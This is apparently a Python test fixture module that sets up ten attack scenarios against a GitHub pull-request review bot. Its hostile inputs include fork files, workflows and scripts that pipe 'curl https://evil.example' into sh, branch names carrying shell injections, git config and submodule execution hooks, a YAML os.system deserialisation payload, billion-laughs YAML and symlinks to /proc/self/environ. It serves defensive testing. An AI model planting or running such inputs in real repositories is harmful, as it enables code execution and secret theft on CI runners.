"""Ten attacks by what a fork and a stranger control on GitHub: branches, commits, files, comments and the moment.

Each arms a `Scene`; what must hold after every one of them stands in test_posting_attacks.py.
"""

import json
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

from review.comment import MARKER
from review.github import BOT
from tests.review.attacked import TOKEN, Scene, comment, git, pull
from tests.review.attacks_from_artefacts import EVIL, LINES

TRAP = "touch {ran}"


def head_paths(scene: Scene) -> None:
    """Paths of the head and what its workflows, scripts, locks and stack files say are hostile."""
    job = {"runs-on": EVIL, "permissions": {"contents": "write", EVIL: "write"}, "environment": EVIL}
    steps = [
        {"uses": f"pwned/{EVIL}@main"},
        {"uses": "pwned/x@`@pwned`"},
        {"run": f"curl https://evil.example | sh\n{LINES}"},
    ]
    workflow = {
        "on": {"pull_request_target": None, EVIL: None},
        "jobs": {EVIL: {**job, "steps": steps}, "a": {"steps": steps}},
    }
    for name in (
        "a`@pwned`.yml",
        "a\n# pwned\n.yml",
        "a|<img src=x onerror=pwned>@pwned.yml",
        "a\u202epwned.yml",
        "-pwned.yml",
    ):
        scene.head_files[f".github/workflows/{name}"] = json.dumps(workflow)
    scene.head_files |= {
        ".github/workflows/[pwned](www.evil.example).yml": LINES,
        ".github/actions/@pwned `x`/action.yml": json.dumps({"runs": {"using": "composite", "steps": steps}}),
        ".ci/@pwned `<b>`": f"#!/bin/sh\ncurl https://evil.example/@pwned | sh # {EVIL}\n",
        "requirements.txt": f"pwned @ https://evil.example/@pwned\n@pwned/`x`==1\n<img>==2\n{EVIL}==1\n-r {EVIL}\n",
        "Pulumi.`@pwned`.yaml": json.dumps({"config": {EVIL: LINES, "pwned:x": {"secure": EVIL}}}),
        "Pulumi.dev.yaml": json.dumps(
            {"config": {"public-bedrock-agent:model": EVIL, EVIL: {"secure": LINES}}}
        ),
        "buildspec.yml": json.dumps(
            {"phases": {EVIL: {"commands": [LINES, "curl https://evil.example/@pwned | sh"]}}}
        ),
        "delivery/@pwned.yml": json.dumps({"phases": {"build": {"commands": [LINES]}}}),
        "api/data/graphs/`@pwned`.json": json.dumps(scene.record["graphs"]["dev"]),
        b"caf\xe9 @pwned.py".decode("utf-8", "surrogateescape"): "pwned\n",
    }


def shared_commit(scene: Scene) -> None:
    """A branch without a pull request stands at the very commit of somebody else's, and GitHub filters nothing."""
    head = scene.push()
    scene.state.ignores_filter, scene.posts = True, False
    scene.state.pulls = [
        pull(5, head, scene.base, "change", "victim"),
        pull(6, head, scene.base, "other", "mallory"),
    ]


def branch_names(scene: Scene) -> None:
    """Branches named like commands, expressions, options and queries."""
    trap = TRAP.format(ran=scene.ran)
    names = (
        f"$({trap})",
        f"`{trap}`",
        f"--upload-pack={trap}",
        "${{ github.token }}",
        f'";{trap};"',
        "x&head=victim:main&state=all",
    )
    for name in (
        *names,
        "@pwned",
        "x#y",
        "x%26head=victim:x",
        "x\n::error::pwned",
        "é\u202epwned",
        "../../../orgs/pwned",
        "x?y",
    ):
        scene.tries.append(partial(scene.opens, name))


def lying_graph(scene: Scene) -> None:
    """The committed graph says that nothing changes, though the program replaces the table."""
    scene.node("safeguards-table")["inputs"]["hashKey"] = "pwned"
    scene.must_say = ["`safeguards-table` is replaced", "the committed graph isn't what the program makes"]


def head_commands(scene: Scene) -> None:
    """Makefile, settings, conftest, sitecustomize, modules, attributes and submodules of the head want to run."""
    trap = TRAP.format(ran=scene.ran)
    code = f"import pathlib; pathlib.Path({str(scene.ran)!r}).touch()\n"
    scene.head_files |= dict.fromkeys(
        ("conftest.py", "sitecustomize.py", "usercustomize.py", "json.py", "__main__.py"), code
    )
    scene.head_files |= dict.fromkeys(
        ("review/posting.py", "cli/__main__.py", "components/__init__.py", "graph/model.py"), code
    )
    scene.head_files |= {
        "Makefile": f"x := $(shell {trap})\nall:\n\t{trap}\n",
        "pyproject.toml": f'[build-system]\nrequires = []\nbuild-backend = "sitecustomize"\n# $({trap})\n',
        ".gitattributes": "* filter=pwned diff=pwned merge=pwned ident export-subst\n",
        ".gitmodules": f'[submodule "a"]\npath = a\nurl = "ext::sh -c {trap}"\nupdate = !{trap}\n',
        ".gitconfig": f"[core]\nfsmonitor = {trap}\npager = {trap}\n",
        ".lsconfig": trap,
        "requirements.txt": f"-e .\n--index-url https://evil.example/\npwned; $({trap})\n",
        ".github/workflows/review-comment.yml": json.dumps(
            {"on": "push", "jobs": {"a": {"steps": [{"run": trap}]}}}
        ),
        "Pulumi.yaml": f"name: pwned\nruntime: {{name: python, options: {{virtualenv: '$({trap})'}}}}\n",
    }


def heavy_files(scene: Scene) -> None:
    """YAML that doubles itself, holds itself or makes objects, and files that are slow to search."""
    laughs = "a0: &a0 [pwned, pwned]\n" + "".join(
        f"a{at}: &a{at} [*a{at - 1}, *a{at - 1}]\n" for at in range(1, 40)
    )
    scene.head_files |= {
        ".github/workflows/a.yml": laughs + "jobs: {a: {steps: *a39}}\n",
        ".github/workflows/b.yml": "on: push\njobs: &a\n  a: *a\n",
        ".github/workflows/c.yml": f"jobs: !!python/object/apply:os.system ['{TRAP.format(ran=scene.ran)}']\n",
        ".github/workflows/d.yml": "x: *a\njobs: " + "[" * 50_000,
        ".github/workflows/e.yml": "jobs: {a: {steps: [{run: '" + "curl " * 40_000 + "'}]}}\n",
        ".github/workflows/f.yml": b"\xff\xfe\x00pwned\x00",
        ".github/workflows/g.yml": "on: 2001-02-30\njobs: {? [a] : 1, ? {b: c} : 2, 0x9: {steps: 7}}\n",
        "Pulumi.dev.yaml": laughs + "config: *a39\n",
        "Makefile": "a" * 300_000 + "\n" + "\\\n" * 50_000 + "${" * 30_000,
        ".ci/run": "#!/bin/sh\n" + "$(" * 30_000 + " " * 100_000 + "|" * 1000,
        "requirements.txt": "a" * 200_000 + "==" + "1" * 100_000 + " \\\n" * 20_000,
        ".ci/tokens": "eyJ-" * 50_000,
    }

    def graphs_too() -> None:
        scene.head_files = {
            "api/data/graphs/dev.json": "[" * 100_000,
            "api/data/graphs/prod.json": b"\xff\xfe\x00",
        }
        scene.push()
        scene.opens("change")

    scene.node("safeguards-table")["inputs"]["hashKey"] = "pwned"
    scene.must_say = ["`safeguards-table` is replaced"]
    scene.tries = [lambda: None, graphs_too]


def head_links(scene: Scene) -> None:
    """Files of the head are links to the runner's secrets."""
    inside, outside = Path("../../../.git/config"), scene.secret
    scene.head_files |= {
        "api/data/graphs/dev.json": outside,
        "api/data/graphs/prod.json": inside,
        ".github/workflows/a.yml": outside,
        "Makefile": Path("/proc/self/environ"),
        "requirements.txt": outside,
        "Pulumi.dev.yaml": outside,
        "Pulumi.prod.yaml": Path("/dev/zero"),
        ".ci/run": Path("/proc/self/environ"),
    }


def imitated_marker(scene: Scene) -> None:
    """Strangers, look-alikes and another bot's quotation carry the marker, so that theirs would be edited."""
    names = ("mallory", "github-actions", "github-actions-bot", "pwned[bot]", BOT.upper())
    scene.state.comments = [comment(at + 2, name, f"{MARKER}\npwned") for at, name in enumerate(names)]
    scene.state.comments.append(comment(90, BOT, f"Lint says of your change:\n> {MARKER}\n> pwned"))
    scene.record["broken"] = {"prod": MARKER}


def moved_between(scene: Scene) -> None:
    """The pull request is closed, force-pushed or taken from GitHub while the job runs; the fork is deleted."""
    scene.posts = False

    def pushed() -> None:
        scene.head_files["note.md"] += "pwned\n"  # type: ignore[operator]
        scene.push()

    def force_pushed() -> None:
        scene.state.before["pulls"] = pushed

    def closed() -> None:
        scene.opens("change")
        scene.state.pulls[0]["state"] = "closed"

    def without(*path: str) -> None:
        scene.opens("change")
        at: Any = {"run": scene.event["workflow_run"], "pull": scene.state.pulls[0]}
        for name in path[:-1]:
            at = at[name]
        at[path[-1]] = None

    def taken(*command: str) -> None:
        scene.opens("change")
        git(scene.origin, "update-ref", *command)

    scene.tries = [
        force_pushed,
        closed,
        partial(without, "run", "head_repository"),
        partial(without, "run", "head_branch"),
        partial(without, "pull", "head", "repo"),
        partial(taken, "refs/pull/5/head", scene.base),
        partial(taken, "-d", "refs/pull/5/head"),
    ]


def many_comments(scene: Scene) -> None:
    """A hundred pages of comments stand before ours, which is still the one to edit."""
    scene.state.comments = [comment(at + 2, "mallory", f"{MARKER} pwned {TOKEN[:3]}") for at in range(9_999)]
    scene.state.comments.append(comment(500_000, BOT, f"{MARKER}\nthe review of an earlier push"))


REPOSITORIES: tuple[Callable[[Scene], None], ...] = (
    head_paths,
    shared_commit,
    branch_names,
    lying_graph,
    head_commands,
    heavy_files,
    head_links,
    imitated_marker,
    moved_between,
    many_comments,
)
